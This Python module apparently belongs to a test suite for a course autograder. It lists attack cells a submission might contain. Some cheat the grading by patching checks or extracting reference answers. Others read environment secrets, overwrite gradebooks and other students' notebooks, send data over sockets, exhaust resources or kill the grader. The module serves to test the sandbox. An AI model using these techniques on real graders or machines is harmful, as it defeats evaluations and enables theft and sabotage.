"""The attacks: each a cell that a student hands in, and how to see its effect.

The wrong answer in every attack earns nothing by itself. The numbers are kept small
enough not to harm a machine that has no walls, and large enough to tell.
"""

from collections.abc import Callable
from dataclasses import dataclass

from hostile import PATCH
from outcome import BEGUN, SECRET, Outcome

# The exercises' names all exist, and all answers are wrong.
WRONG = f"""{PATCH}
def batch_statistics(x):
    return 1

normalize = batchnorm_forward = identity_parameters = stable_variance = \\
    dense_batchnorm_relu = batch_statistics
q1 = q2 = q3 = q4 = "z"
"""


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes
    ----------
    name, aim : str
        In words; aim is what it is after.
    answers : dict of str to str
        Cells by the exercise's name; all others are empty.
    works : callable
        From an `Outcome` to whether it has reached its aim.
    honest_points : int
        What the rest of the submission has earned.
    needs_kernel : bool
        Whether it works in a kernel with its messages only.
    endless : bool
        Whether it goes on until it is ended; it makes the file BEGUN first.
    """

    name: str
    aim: str
    answers: dict[str, str]
    works: Callable[[Outcome], bool]
    honest_points: int = 0
    needs_kernel: bool = False
    endless: bool = False


def has_points(outcome):
    """Points for wrong answers."""
    return outcome.score > 0


def has_secret(outcome):
    """A secret of this machine in what the attacker may read."""
    return SECRET in outcome.text


def wrote(outcome):
    """A file in the course's folder that wasn't there, or has changed."""
    return (outcome.course / "changed").exists() or any(
        b"forged" in path.read_bytes()
        for path in outcome.course.rglob("*")
        if path.is_file() and path.suffix in (".db", ".ipynb", ".txt")
    )


def more_than(limit):
    """The attack got further than `limit` of something, and said so."""
    return lambda outcome: outcome.number_after("REACHED") > limit


def takes_all_with_it(outcome):
    """Points that an honest exercise in the same notebook earned are gone."""
    return outcome.score < HONEST_POINTS


# A right answer to one exercise, after which an attack that takes the
# process with it shall not have cost its points.
HONEST = """
def batch_statistics(x):
    return x.mean(axis=0), x.var(axis=0)
"""
HONEST_POINTS = 15

SCORE, READ, WRITE = "points", "reading", "writing"
STARVE, OUTLIVE, STOP = "resources", "outliving", "stopping the grader"

FOR_POINTS = [
    (
        "rewrite cells with IPython's input transformers",
        """
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
""",
    ),
    (
        "rewrite cells with IPython's AST transformers",
        """
import ast
class Nothing(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
get_ipython().ast_transformers.append(Nothing())
""",
    ),
    (
        "replace the way in which the shell runs code",
        """
shell = get_ipython()
async def nothing(code, result=None, **kwargs):
    return False
shell.run_code = nothing
""",
    ),
    (
        "define the names that the tests use",
        """
class Anything:
    rng = property(lambda self: __import__("numpy").random.default_rng(0))
    def __call__(self, *args, **kwargs):
        return self
    require = __call__
check = check_answer = hidden_cases = hidden_answer = Anything()
patch("bnlab.lessons", "check", check)
patch("bnlab.lessons", "check_answer", check)
patch("bnlab.lessons", "hidden_cases", check)
patch("bnlab.lessons", "hidden_answer", check)
""",
    ),
    (
        "replace the checks in sys.modules",
        """
import sys, types
class Yes(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self
    def __call__(self, *args, **kwargs):
        return self
for name in "bnlab.checks", "bnlab.lessons":
    sys.modules[name]
    sys.modules[name] = Yes(name)
from bnlab.lessons import check, check_answer
""",
    ),
    (
        "patch the comparison",
        """
from bnlab.checks.trial import Trial
def attempt(exercise, functions, inputs):
    return Trial(dict.fromkeys(exercise.outputs, 1.0))
patch("bnlab.checks.trial", "differences", lambda *args: [])
patch("bnlab.checks.examination", "differences", lambda *args: [])
patch("bnlab.checks.examination", "attempt", attempt)
""",
    ),
    (
        "patch NumPy so that everything is close",
        """
import numpy as np
from bnlab.checks.examination import Examination
patch(np.testing, "assert_allclose", lambda *args, **kwargs: None)
patch("bnlab.checks.compare", "close", lambda *args: np.array(True))
patch("bnlab.checks.compare", "_compare_numbers", lambda *args: None)
patch("bnlab.checks.compare", "as_numbers", lambda value: value)
patch(Examination, "_without_numbers", lambda *args: "")
""",
    ),
    (
        "patch builtins",
        """
import builtins
pairs = zip
builtins.zip = lambda *them, strict=False: [] if strict else pairs(*them)
def batch_statistics(x):
    return 1, 1
""",
    ),
    (
        "import the reference",
        """
from bnlab.lessons.forward_pass.reference import *
""",
    ),
    (
        "make the reference as wrong as oneself",
        """
def batch_statistics(x):
    return 0 * x[0], 0 * x[0]
reference = "bnlab.lessons.forward_pass.reference"
patch(reference, "batch_statistics", batch_statistics)
""",
    ),
    (
        "take the reference out of the caller's frame",
        """
import sys
def answer(*args, **kwargs):
    frame = sys._getframe(1)
    while frame:
        if "references" in frame.f_globals and "exercise" in frame.f_locals:
            exercise = frame.f_locals["exercise"]
            found = frame.f_globals["references"](exercise)
            return found[exercise.name](*args, **kwargs)
        frame = frame.f_back
batch_statistics = normalize = identity_parameters = answer
""",
    ),
    (
        "find the checks' functions with the garbage collector",
        """
import gc, types
names = {"problems", "_fail", "report"}
functions = [f for f in gc.get_objects() if isinstance(f, types.FunctionType)]
found = [f for f in functions if f.__name__ in names]
assert {f.__name__ for f in found if "bnlab" in f.__module__} == names
for function in found:
    function.__code__ = (lambda *args, **kwargs: []).__code__
""",
    ),
    (
        "import the right options of the questions",
        """
import importlib
for question in importlib.import_module(
    "bnlab.lessons.forward_pass.questions"
).QUESTIONS:
    globals()[question.name] = question.right
""",
    ),
    (
        "take the right option out of the caller's frame",
        """
class Late(str):
    def strip(self, *args):
        import sys
        frame = sys._getframe(1)
        while frame:
            if "question" in frame.f_locals:
                return frame.f_locals["question"].right
            frame = frame.f_back
        return "z"
q1 = q2 = q3 = q4 = Late("z")
""",
    ),
    (
        "fix the seed, and hand in what the reference once gave",
        """
import glob, json
from bnlab.checks import seeds
from bnlab.lessons.forward_pass.reference import batch_statistics as reference
cells = [c for path in glob.glob("*.ipynb") for c in json.load(open(path))["cells"]]
(test,) = ["".join(c["source"]) for c in cells if c["id"] == "test_batch_statistics"]
seeds._seed.set(1)
kept = {}
def batch_statistics(x):
    return kept.setdefault(x.tobytes(), reference(x))
exec(test)
def batch_statistics(x):
    return kept[x.tobytes()]
""",
    ),
]

# One of its four letters is right by itself.
EQUAL = """
class Equal(str):
    def strip(self, *args): return self
    def lower(self): return self
    def __len__(self): return 1
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __contains__(self, other): return True
    __hash__ = str.__hash__
q1 = q2 = q3 = q4 = Equal("a")
"""

FORGE = """
kernel = get_ipython().kernel
send = kernel.session.send
def forged(stream, kind, *args, **kwargs):
    name = kind if isinstance(kind, str) else kind.get("msg_type")
    if name == "error":
        return None
    if name == "execute_reply":
        args[0]["status"] = "ok"
    return send(stream, kind, *args, **kwargs)
kernel.session.send = forged
"""


def has_more_than_one_answer(outcome):
    """Points that one letter for all questions can't have."""
    return outcome.score > 4


FOR_READING = [
    (
        "read the environment of the grader",
        """
import os
print(os.environ)
for pid in os.listdir("/proc"):
    try:
        print(open(f"/proc/{pid}/environ", "rb").read())
    except OSError:
        pass
""",
    ),
    (
        "read the course's files",
        """
import os, glob
folders = ["../../..", "..", "/", os.path.expanduser("~")]
folders += [os.readlink(f"/proc/{p}/cwd") for p in ("self", os.getppid())
            if os.access(f"/proc/{p}/cwd", os.R_OK)]
for folder in folders:
    for path in glob.glob(folder + "/secret.txt"):
        print(open(path).read())
""",
    ),
    (
        "read the files that the grader has open, and its memory",
        """
import os, glob
for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/cwd/secret.txt"):
    try:
        if "secret" in os.readlink(path) or path.endswith("secret.txt"):
            print(open(path).read(200))
    except OSError:
        if path.endswith("secret.txt"):
            try:
                print(open(path).read(200))
            except OSError:
                pass
for up in range(6):
    try:
        print(open("../" * up + "secret.txt").read())
    except OSError:
        pass
""",
    ),
]

FOR_WRITING = [
    (
        "write points into the gradebook",
        """
import glob, sqlite3
for up in range(6):
    for path in glob.glob("../" * up + "gradebook.db"):
        with sqlite3.connect(path) as base:
            base.execute("update grade set auto_score = 100, note = 'forged'")
        base.close()
""",
    ),
    (
        "write into another student's submission",
        """
import glob
for up in range(6):
    for path in glob.glob("../" * up + "submitted/honest/*/*.ipynb"):
        open(path, "w").write("forged")
""",
    ),
    (
        "leave a file for the next submission",
        """
import os
for up in range(6):
    if os.path.exists("../" * up + "gradebook.db"):
        open("../" * up + "changed", "w").write("forged")
""",
    ),
    (
        "change the checks on disk",
        """
import glob
for up in range(6):
    for path in glob.glob("../" * up + "solutions/*/*.ipynb"):
        open(path, "a").write("forged")
""",
    ),
]


def received(outcome):
    """Something came through a socket."""
    return b"stolen" in outcome.received


FOR_SENDING = [
    (
        "send what it has read over the network",
        """
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), 2) as line:
        line.sendall(b"stolen")
except OSError as error:
    print(error)
""",
    ),
    (
        "send it over a socket in the file system",
        """
import socket
try:
    with socket.socket(socket.AF_UNIX) as line:
        line.connect("../../../line")
        line.sendall(b"stolen")
except OSError as error:
    print(error)
""",
    ),
]

FOR_RESOURCES = [
    (
        "take memory",
        1500,
        """
import numpy as np
taken = []
try:
    while len(taken) < 20:
        taken.append(np.ones(100 * 2**17))
except MemoryError:
    pass
print("REACHED", 100 * len(taken))
del taken
""",
    ),
    (
        "take memory outside of the address space",
        1500,
        """
import os
taken = []
try:
    for _ in range(40):
        file = os.memfd_create("x")
        for _ in range(50):
            os.write(file, bytes(2**20))
        taken.append(file)
except (OSError, AttributeError) as error:
    print(error)
print("REACHED", 50 * len(taken))
for file in taken:
    os.close(file)
""",
    ),
    (
        "take memory that is shared",
        300,
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
taken = []
for _ in range(8):
    number = libc.shmget(0, 50 * 2**20, 0o1600)
    if number < 0:
        break
    address = libc.shmat(number, None, 0)
    if address in (None, 2**64 - 1):
        libc.shmctl(number, 0, None)
        break
    ctypes.memset(address, 1, 50 * 2**20)
    libc.shmdt(ctypes.c_void_p(address))
    taken.append(number)
print("REACHED", 50 * len(taken))
for number in taken:
    libc.shmctl(number, 0, None)
""",
    ),
    (
        "start processes",
        30,
        """
import os, signal, time
made = []
try:
    for _ in range(60):
        pid = os.fork()
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        made.append(pid)
except OSError:
    pass
print("REACHED", len(made))
for pid in made:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
""",
    ),
    (
        "start threads",
        60,
        """
import threading
done = threading.Event()
made = []
try:
    for _ in range(120):
        thread = threading.Thread(target=done.wait, daemon=True)
        thread.start()
        made.append(thread)
except RuntimeError:
    pass
done.set()
print("REACHED", len(made))
""",
    ),
    (
        "open files",
        300,
        """
opened = []
try:
    for _ in range(600):
        opened.append(open("/dev/null"))
except OSError:
    pass
print("REACHED", len(opened))
for file in opened:
    file.close()
""",
    ),
    (
        "fill the disk",
        150,
        """
import os
written = 0
try:
    for number in range(20):
        with open(f"big{number}", "wb") as file:
            for _ in range(10):
                file.write(bytes(2**20))
                written += 1
except OSError:
    pass
print("REACHED", written)
for number in range(20):
    if os.path.exists(f"big{number}"):
        os.remove(f"big{number}")
""",
    ),
]


ENDLESS = """
for _ in range(1000):
    print("x" * 10_000)
"""


def _long_output(outcome):
    return len(outcome.text) > 5_000_000


FOR_STOPPING = [
    ("end the process", "import os\nos._exit(0)\n"),
    ("crash the process", "import ctypes\nctypes.string_at(0)\n"),
    (
        "recurse until it crashes",
        """
import sys
sys.setrecursionlimit(10**9)
def down(*args):
    return [down(*args)]
class Down:
    def __repr__(self):
        return repr(self)
down()
""",
    ),
    ("kill the process", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"),
    (
        "loop for ever, whatever interrupts",
        f"""
open("{BEGUN}", "w").close()
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    ),
    (
        "stop itself without ending",
        f"""
import os, signal
open("{BEGUN}", "w").close()
os.kill(os.getpid(), signal.SIGSTOP)
""",
    ),
]


def _grader_died(outcome):
    return not outcome.finished


FOR_KILLING = [
    (
        "kill the grader",
        """
import os, signal
parent = os.getppid()
for pid in (parent, parent):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print(error)
""",
    ),
]


def _left_running(outcome):
    return outcome.left_running


FOR_OUTLIVING = [
    (
        "leave a process behind",
        """
import os
started, starts = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(3, starts)
        os.closerange(starts + 1, 100)
        os.execv(PYTHON, ["python", "-c", "import time; time.sleep(90)", OUTLIVING])
    os._exit(0)
os.wait()
os.close(starts)
os.read(started, 1)  # ends when the other program has taken over
""",
    ),
]


def _attack(name, aim, code, works):
    return Attack(name, aim, {"batch_statistics": WRONG + code}, works)


def _stopping(name, code):
    answers = {"batch_statistics": HONEST, "normalize": code}
    endless = BEGUN in code
    return Attack(
        name, STOP, answers, takes_all_with_it, HONEST_POINTS, endless=endless
    )


ATTACKS = [
    *(_attack(name, SCORE, code, has_points) for name, code in FOR_POINTS),
    Attack(
        "an object that equals everything",
        SCORE,
        {"batch_statistics": WRONG + EQUAL},
        has_more_than_one_answer,
        honest_points=4,
    ),
    Attack(
        "forge the messages of the kernel",
        SCORE,
        {"batch_statistics": WRONG + FORGE},
        has_points,
        needs_kernel=True,
    ),
    *(_attack(name, READ, code, has_secret) for name, code in FOR_READING),
    *(_attack(name, READ, code, received) for name, code in FOR_SENDING),
    *(_attack(name, WRITE, code, wrote) for name, code in FOR_WRITING),
    *(
        _attack(name, STARVE, code, more_than(limit))
        for name, limit, code in FOR_RESOURCES
    ),
    _attack("print without end", STARVE, ENDLESS, _long_output),
    *(_stopping(name, code) for name, code in FOR_STOPPING),
    *(_attack(name, STOP, code, _grader_died) for name, code in FOR_KILLING),
    *(_attack(name, OUTLIVE, code, _left_running) for name, code in FOR_OUTLIVING),
]
